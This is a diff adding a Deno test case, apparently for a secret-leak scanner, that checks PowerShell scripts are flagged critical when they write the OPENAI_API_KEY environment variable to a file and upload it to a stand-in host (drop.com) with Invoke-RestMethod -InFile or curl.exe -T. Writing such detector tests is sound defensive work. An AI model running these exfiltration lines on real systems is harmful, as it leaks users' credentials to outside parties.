@@ -3645,3 +3645,24 @@ Deno.test("a written file is sent by its name and a connection's own objects sen
     [],
   );
 });
+
+Deno.test("PowerShell: a file written with a secret (Out-File, Set-Content) is sent by a command naming it (-InFile, curl.exe -T)", () => {
+  const write = "Set-Content -Path k.txt -Value $env:OPENAI_API_KEY\n";
+  for (
+    const text of [
+      "$env:OPENAI_API_KEY | Out-File C:\\tmp\\k.txt\nInvoke-RestMethod -Uri 'https://drop.com/x' -Method Post -InFile C:\\tmp\\k.txt\n",
+      `${write}curl.exe -T k.txt https://drop.com/x\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.ps1", text), ["critical"], text);
+  assert.deepEqual(
+    secretSeverities("scripts/a.ps1", `${write}curl.exe -T other.txt https://drop.com/x\n`),
+    [],
+  );
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.ps1",
+      `${write}Invoke-RestMethod -Uri 'https://api.openai.com/x' -Method Post -InFile k.txt\n`,
+    ),
+    ["info"],
+  );
+});
